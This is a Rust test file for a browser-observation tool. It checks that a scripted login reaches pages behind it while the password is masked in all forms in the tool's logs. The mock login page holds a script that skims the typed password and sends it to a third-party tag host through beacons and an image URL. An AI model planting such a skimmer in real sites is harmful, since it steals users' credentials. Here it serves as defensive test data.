//! A recorded login: the pages behind it are seen, the secret nowhere.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use shuhi_browser::{Login, Observation, Waits};

use crate::run::{has_browser, observe};
use crate::support::{Received, Reply, Site, path};

const SECRET: &str = "ひみつ&kotoba=12/3";

const STEPS: &str = "
login:
  - goto: https://shop.example/login
  - fill: {selector: '#mail', env: MISE_MAIL}
  - fill: {selector: '#password', env: MISE_PASSWORD}
  - click: 'button'
  - wait_for: '.my-page'
";

fn answer(received: &Received) -> Option<Reply> {
    let html = |text: &str| Reply::of("text/html; charset=utf-8", format!("<!doctype html><body>{text}"));
    let signed_in = received.headers.get("cookie").is_some_and(|cookie| cookie.contains("session=open"));
    match path(&received.url) {
        "/login" => Some(html(
            "<form method=post action=/enter><input id=mail name=mail><input id=password name=password type=password><button>入る</button></form>\
             <script>document.forms[0].addEventListener('submit', () => {\
               const password = document.getElementById('password').value;\
               navigator.sendBeacon('https://tag.mihon.example/hit/typed', JSON.stringify({ password }));\
               navigator.sendBeacon('https://tag.mihon.example/hit/typed', new Blob([new Uint8Array([0]), password]));\
               new Image().src = 'https://tag.mihon.example/hit/typed.png?p=' + encodeURIComponent(password);\
             })</script>",
        )),
        "/enter" => {
            let mut expected = url::form_urlencoded::Serializer::new(String::new());
            expected.append_pair("mail", "mihon@shop.example").append_pair("password", SECRET);
            let right = received.body == expected.finish().into_bytes();
            let reply = Reply::of("text/html", "").status(303);
            Some(if right {
                reply.with("location", "/my").with("set-cookie", "session=open; path=/; secure; httponly")
            } else {
                reply.with("location", "/login?wrong")
            })
        }
        "/my" if signed_in => {
            Some(html("<p class=my-page>こんにちは</p><img src=https://tag.mihon.example/hit/inside.png>"))
        }
        "/my" => Some(html("<p>まだ</p>")),
        "/favicon.ico" => Some(Reply::of("image/x-icon", "").status(404)),
        _ => None,
    }
}

fn environment(name: &str) -> Option<String> {
    match name {
        "MISE_MAIL" => Some("mihon@shop.example".to_owned()),
        "MISE_PASSWORD" => Some(SECRET.to_owned()),
        _ => None,
    }
}

#[test]
fn pages_behind_a_login_are_seen_and_the_secret_is_not() {
    if !has_browser() {
        return;
    }
    let site = Site::start(answer);
    let mut observation = Observation::of(["https://shop.example/my"]);
    observation.login = Some(Login::read("login.yaml", STEPS, environment).unwrap());
    observation.waits = Waits { idle: Duration::from_millis(500), scroll: false, ..Waits::default() };
    let seen = observe("login", &site, &site.settings(), &observation);
    assert_eq!(seen.faults(), "");
    assert!(seen.received.iter().any(|received| received.url.ends_with("/hit/inside.png")), "not signed in");
    // The site did get it, also by way of the tag.
    assert!(seen.received.iter().filter(|received| received.url.contains("/hit/typed")).count() >= 3);
    let log = String::from_utf8(seen.log).unwrap();
    assert!(log.contains("[MISE_PASSWORD]") && log.contains("typed.png?p=[MISE_PASSWORD]"));
    for form in ["kotoba", "%E3%81%B2%E3%81%BF", "12/3", "12%2F3", "mihon@shop.example", "mihon%40shop.example"] {
        assert!(!log.contains(form), "`{form}` stands in the log");
    }
    for text in log.split('"').filter(|text| text.len() > 8) {
        let decoded = STANDARD.decode(text).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&decoded).contains("kotoba"), "the secret stands in {text}");
    }
}

#[test]
fn a_login_that_fails_is_told_with_its_step() {
    if !has_browser() {
        return;
    }
    let site = Site::start(answer);
    let mut observation = Observation::of(["https://shop.example/my"]);
    let steps = "login:\n  - goto: https://shop.example/login\n  - click: '#not-there'\n";
    observation.login = Some(Login::read("login.yaml", steps, environment).unwrap());
    observation.waits = Waits { idle: Duration::from_millis(300), scroll: false, ..Waits::default() };
    let seen = observe("login-fails", &site, &site.settings(), &observation);
    assert!(seen.faults().contains("step 2 of the login failed: click `#not-there`"), "{}", seen.faults());
}
